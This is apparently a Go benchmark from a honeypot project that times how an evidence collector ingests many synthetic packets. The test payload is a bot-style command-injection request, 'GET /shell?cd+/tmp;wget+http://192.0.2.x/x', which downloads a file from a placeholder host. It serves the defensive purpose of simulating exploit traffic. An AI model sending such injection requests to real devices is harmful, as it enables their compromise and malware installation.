package evidence

import (
	"fmt"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/decode"
)

// BenchmarkCollectorAdd: payload packets of which one in five brings a new
// payload and most repeat one of a few thousand (as bots' exploits do),
// from many sources.
func BenchmarkCollectorAdd(b *testing.B) {
	var pkts []*decode.Packet
	var ts []int64
	for i := 0; i < 1<<16; i++ {
		payload := []byte(fmt.Sprintf("GET /shell?cd+/tmp;wget+http://192.0.2.%d/x HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n", i%4096))
		if i%5 == 0 {
			payload = fmt.Appendf(payload, "%d", i)
		}
		pkts = append(pkts, pkt(fmt.Sprintf("198.51.%d.%d", i/251%256, i%251), 80, payload))
		ts = append(ts, t0+int64(i)*1e6)
	}
	b.ReportAllocs()
	b.ResetTimer()
	var c *Collector
	for i := 0; i < b.N; i++ {
		if i%len(pkts) == 0 {
			c = NewCollector(time.UTC, Options{})
		}
		c.Add(ts[i%len(pkts)], pkts[i%len(pkts)])
	}
}
